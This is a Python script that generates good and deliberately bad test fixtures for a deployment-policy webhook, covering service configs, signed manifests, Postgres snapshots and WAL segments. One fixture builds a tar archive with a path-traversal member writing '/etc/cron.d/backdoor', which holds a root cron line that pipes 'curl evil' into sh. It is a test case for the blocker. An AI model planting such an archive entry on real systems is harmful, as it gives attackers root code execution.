"""Regenerate every example folder from scratch: `python examples/generate.py`.

The examples are real artifacts (configs, a real tar.gz snapshot, WAL segments, DSSE signatures)
checked into the repo; this script documents exactly how each bad one differs from its good twin.
Keys under examples/keys/ are TEST KEYS, published on purpose: never trust them anywhere real.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from webhook.contracts.models import (  # noqa: E402
    INTOTO_PAYLOAD_TYPE,
    MANIFEST_PAYLOAD_TYPE,
    REPLICATION_PREDICATE,
    STATEMENT_TYPE,
)
from webhook.integrity import (  # noqa: E402
    envelope_json,
    generate_private_key,
    load_private_key_pem,
    private_key_pem,
    public_key_pem,
    sign_envelope,
)

KEYS = HERE / "keys"
CREATED, EXPIRES = "2026-11-01T00:00:00Z", "2036-11-01T00:00:00Z"

GOOD_CONFIG = """\
# payments service, prod: the config the migration manifest pins by SHA-256
app_id: payments
env: prod
tls:
  enabled: true
  min_version: "1.3"
ports:
  - {name: https, port: 8443, bind: 127.0.0.1, exposure: internal}
  - {name: metrics, port: 9102, bind: 10.0.4.12, exposure: internal}
secrets_ref: vault://kv/payments/prod
security:
  run_as_root: false
  privileged: false
  capabilities: []
database:
  host: pg-payments.internal
  password_ref: vault://kv/payments/prod#db-password
"""


def key(name: str) -> Any:
    """Load (or create once) a test key; the file name says it is a test key."""
    KEYS.mkdir(exist_ok=True)
    path = KEYS / f"{name}.TEST-ONLY.key"
    if not path.exists():
        k = generate_private_key("ed25519")
        path.write_bytes(private_key_pem(k))
        (KEYS / f"{name}.TEST-ONLY.pub").write_bytes(public_key_pem(k.public_key()))
    return load_private_key_pem(path.read_bytes(), file=str(path))


def fresh(name: str, expected: dict[str, Any], note: str) -> Path:
    folder = HERE / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir()
    (folder / "expected.json").write_text(
        json.dumps({**expected, "note": note}, indent=2, sort_keys=True) + "\n"
    )
    trust = folder / "trust"
    trust.mkdir()
    shutil.copy(KEYS / "signer.TEST-ONLY.pub", trust / "signer.TEST-ONLY.pem")
    return folder


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- T1 -----------------------------------------------------------------------------------------


def t1(
    name: str,
    expected: dict[str, Any],
    note: str,
    *,
    config: str = GOOD_CONFIG,
    manifest: Callable[[dict[str, Any]], dict[str, Any]] = lambda m: m,
    signer: str | None = "signer",
    after_sign: Callable[[Path], None] = lambda folder: None,
) -> None:
    env = "staging" if "env: staging" in config else "prod"
    # "env" in expected.json: the door to evaluate through (absent = prod, the default door)
    folder = fresh(name, {**expected, "env": env} if env != "prod" else expected, note)
    cfg = config.encode()
    (folder / "app-config.yaml").write_bytes(cfg)
    base = {"app_id": "payments", "env": env, "version": "4.2.0", "config_sha256": sha256(cfg)}
    body = (json.dumps(manifest(base), indent=2) + "\n").encode()
    (folder / "migration_manifest.json").write_bytes(body)
    if signer is not None:
        env_ = sign_envelope(body, MANIFEST_PAYLOAD_TYPE, [key(signer)])
        (folder / "migration_manifest.dsse.json").write_bytes(envelope_json(env_))
    after_sign(folder)


def make_t1() -> None:
    t1(
        "t1_good",
        {"decision": "ALLOW", "policies": []},
        "prod config with TLS 1.3, loopback/private binds, vault secrets, no privileges; signed",
    )
    t1(
        "t1_bad_tls_disabled",
        {"decision": "BLOCK", "policies": ["tls-required"]},
        "tls.enabled is false in prod",
        config=GOOD_CONFIG.replace("enabled: true", "enabled: false"),
    )
    t1(
        "t1_bad_public_port",
        {"decision": "BLOCK", "policies": ["no-public-bind"]},
        "the https port is bound to 0.0.0.0 and exposed publicly",
        config=GOOD_CONFIG.replace(
            "bind: 127.0.0.1, exposure: internal", "bind: 0.0.0.0, exposure: public"
        ),
    )
    t1(
        "t1_bad_hash_mismatch",
        {"decision": "BLOCK", "policies": ["config-hash-mismatch"]},
        "app-config.yaml was edited after the manifest pinned its hash (port 8443 -> 8444)",
        after_sign=lambda f: (f / "app-config.yaml").write_bytes(
            GOOD_CONFIG.replace("port: 8443", "port: 8444").encode()
        ),
    )
    t1(
        "t1_bad_missing_field",
        {"decision": "BLOCK", "policies": ["input-invalid"]},
        "migration_manifest.json has no version field",
        manifest=lambda m: {k: v for k, v in m.items() if k != "version"},
    )
    t1(
        "t1_bad_no_secrets_ref",
        {"decision": "BLOCK", "policies": ["secrets-ref-required"]},
        "secrets_ref is missing",
        config=GOOD_CONFIG.replace("secrets_ref: vault://kv/payments/prod\n", ""),
    )
    t1(
        "t1_bad_inline_secret",
        {"decision": "BLOCK", "policies": ["no-inline-secrets"]},
        "a database password is written in the config instead of referenced",
        config=GOOD_CONFIG.replace(
            "password_ref: vault://kv/payments/prod#db-password", "password: hunter2-correct-horse"
        ),
    )
    t1(
        "t1_bad_privileged",
        {"decision": "BLOCK", "policies": ["no-privileged", "no-root"]},
        "the service asks to run privileged and as root",
        config=GOOD_CONFIG.replace("run_as_root: false", "run_as_root: true").replace(
            "privileged: false", "privileged: true"
        ),
    )
    t1(
        "t1_bad_env_case",
        {"decision": "BLOCK", "policies": ["input-invalid"]},
        "env is 'Prod': the contract is case sensitive",
        manifest=lambda m: {**m, "env": "Prod"},
    )
    t1(
        "t1_bad_unsigned",
        {"decision": "BLOCK", "policies": ["signature-required"]},
        "prod always requires a manifest signed by a trusted key; this one is unsigned",
        signer=None,
    )
    t1(
        "t1_bad_untrusted_signature",
        {"decision": "BLOCK", "policies": ["signature-invalid"]},
        "the manifest is signed, but by a key that is not in the trust store",
        signer="untrusted",
    )

    def other_manifest(folder: Path) -> None:
        # a valid signature by a trusted key, over a different (older) manifest
        old = json.loads((folder / "migration_manifest.json").read_text())
        old["version"] = "4.1.9"
        body = (json.dumps(old, indent=2) + "\n").encode()
        env_ = sign_envelope(body, MANIFEST_PAYLOAD_TYPE, [key("signer")])
        (folder / "migration_manifest.dsse.json").write_bytes(envelope_json(env_))

    t1(
        "t1_bad_signature_other_manifest",
        {"decision": "BLOCK", "policies": ["signature-invalid"]},
        "a trusted signature, but over another manifest (version 4.1.9): replayed signature",
        after_sign=other_manifest,
    )
    staging = (
        GOOD_CONFIG.replace("env: prod", "env: staging")
        .replace('min_version: "1.3"', 'min_version: "1.1"')
        .replace("vault://kv/payments/prod", "vault://kv/payments/staging")
        .replace("capabilities: []", "capabilities: [NET_BIND_SERVICE]")
    )
    t1(
        "t1_staging_warn",
        {
            "decision": "ALLOW",
            "policies": [],
            "warnings": ["tls-min-version"],
            "prod_blocks": ["tls-min-version"],
        },
        "staging door: TLS 1.1 is allowed with a warning; the same config in prod is blocked",
        config=staging,
        signer=None,
    )


# --- T2 -----------------------------------------------------------------------------------------

WAL_NAMES = ["000000010000000000000001", "000000010000000000000002", "000000010000000000000003"]


def snapshot_bytes(
    members: dict[str, bytes],
    *,
    sums: bool = True,
    extra: Callable[[tarfile.TarFile], None] | None = None,
) -> bytes:
    """A deterministic tar.gz (fixed mtimes, gzip mtime 0) with an optional SHA256SUMS member."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        files = dict(members)
        if sums:
            files["SHA256SUMS"] = "".join(
                f"{sha256(v)}  {k}\n" for k, v in sorted(members.items())
            ).encode()
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 1_790_000_000, 0o644
            tar.addfile(info, io.BytesIO(data))
        if extra is not None:
            extra(tar)
    return gzip.compress(raw.getvalue(), mtime=0)


SNAPSHOT_MEMBERS = {
    "base/PG_VERSION": b"16\n",
    "base/16384/2619": bytes(range(256)) * 64,
    "global/pg_control": b"pg_control fake block\n" * 32,
    "backup_label": b"START WAL LOCATION: 0/1000028 (file 000000010000000000000001)\n",
}


def t2(
    name: str,
    expected: dict[str, Any],
    note: str,
    *,
    snapshot: bytes | None = None,
    manifest: Callable[[dict[str, Any]], dict[str, Any]] = lambda m: m,
    signer: str = "signer",
    after_sign: Callable[[Path], None] = lambda folder: None,
) -> None:
    folder = fresh(name, expected, note)
    snap = snapshot if snapshot is not None else snapshot_bytes(SNAPSHOT_MEMBERS)
    (folder / "snapshot.tar.gz").write_bytes(snap)
    wal_dir = folder / "wal_files"
    wal_dir.mkdir()
    wal = {n: f"fake WAL segment {n}\n".encode() * 128 for n in WAL_NAMES}
    for n, data in wal.items():
        (wal_dir / n).write_bytes(data)
    base = {
        "source_db": "pg-payments-onprem",
        "target_db": "pg-payments-cloud",
        "env": "prod",
        "expected_snapshot_hash": "sha256:" + sha256(snap),
        "sync_mode": "incremental",
        "wal_files": [{"name": n, "sha256": sha256(d)} for n, d in wal.items()],
    }
    m = manifest(base)
    lines = [f"# replication of {m['source_db']} to {m['target_db']}"]
    for k, v in m.items():
        if k == "wal_files":
            lines.append("wal_files:")
            lines += [f'  - {{name: "{w["name"]}", sha256: {w["sha256"]}}}' for w in v]
        else:
            lines.append(f"{k}: {v}")
    (folder / "replication_manifest.yaml").write_text("\n".join(lines) + "\n")
    statement = {
        "_type": STATEMENT_TYPE,
        "subject": [{"name": "snapshot.tar.gz", "digest": {"sha256": sha256(snap)}}]
        + [{"name": f"wal_files/{n}", "digest": {"sha256": sha256(d)}} for n, d in wal.items()],
        "predicateType": REPLICATION_PREDICATE,
        "predicate": {
            "source_db": base["source_db"],
            "target_db": base["target_db"],
            "sync_mode": base["sync_mode"],
            "created": CREATED,
            "expires": EXPIRES,
            # the env is signed: the attestation is valid only through that env's door
            "env": m.get("env", "prod"),
        },
    }
    payload = json.dumps(statement, sort_keys=True, separators=(",", ":")).encode()
    env_ = sign_envelope(payload, INTOTO_PAYLOAD_TYPE, [key(signer)])
    (folder / "snapshot.dsse.json").write_bytes(envelope_json(env_))
    after_sign(folder)


def make_t2() -> None:
    t2(
        "t2_good",
        {"decision": "ALLOW", "policies": []},
        "snapshot with SHA256SUMS, three ordered WAL segments, signed in-toto attestation",
    )
    t2(
        "t2_bad_snapshot_altered",
        {"decision": "BLOCK", "policies": ["attestation-mismatch", "snapshot-hash-mismatch"]},
        "the snapshot was replaced after the manifest and attestation were made",
        after_sign=lambda f: (f / "snapshot.tar.gz").write_bytes(
            snapshot_bytes({**SNAPSHOT_MEMBERS, "base/PG_VERSION": b"15\n"})
        ),
    )

    def tamper_wal(folder: Path) -> None:
        seg = folder / "wal_files" / WAL_NAMES[1]
        seg.write_bytes(seg.read_bytes().replace(b"fake", b"evil", 1))

    t2(
        "t2_bad_wal_tampered",
        {"decision": "BLOCK", "policies": ["wal-integrity"]},
        "WAL segment ...02 was modified in transit",
        after_sign=tamper_wal,
    )
    t2(
        "t2_bad_weak_hash",
        {"decision": "BLOCK", "policies": ["snapshot-hash-unverifiable", "weak-hash-forbidden"]},
        "expected_snapshot_hash uses md5 (outdated hashing)",
        manifest=lambda m: {
            **m,
            "expected_snapshot_hash": "md5:"
            + hashlib.md5(
                (HERE / "t2_bad_weak_hash" / "snapshot.tar.gz").read_bytes(), usedforsecurity=False
            ).hexdigest(),
        },
    )
    t2(
        "t2_bad_untrusted_signature",
        {"decision": "BLOCK", "policies": ["signature-invalid"]},
        "the attestation is signed by a key that is not in the trust store",
        signer="untrusted",
    )

    def traversal(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("../../etc/cron.d/backdoor")
        data = b"* * * * * root curl evil | sh\n"
        info.size, info.mtime = len(data), 1_790_000_000
        tar.addfile(info, io.BytesIO(data))

    t2(
        "t2_bad_archive_traversal",
        {"decision": "BLOCK", "policies": ["archive-checksum-mismatch", "archive-path-traversal"]},
        "the snapshot carries a member that escapes the extraction root",
        snapshot=snapshot_bytes(SNAPSHOT_MEMBERS, extra=traversal),
    )

    def reorder(m: dict[str, Any]) -> dict[str, Any]:
        wal = list(m["wal_files"])
        wal[0], wal[1] = wal[1], wal[0]
        return {**m, "wal_files": wal}

    t2(
        "t2_bad_wal_order",
        {"decision": "BLOCK", "policies": ["wal-integrity"]},
        "WAL segments listed out of order",
        manifest=reorder,
    )


def main() -> None:
    key("signer")
    key("untrusted")
    make_t1()
    make_t2()
    print("examples regenerated")


if __name__ == "__main__":
    main()
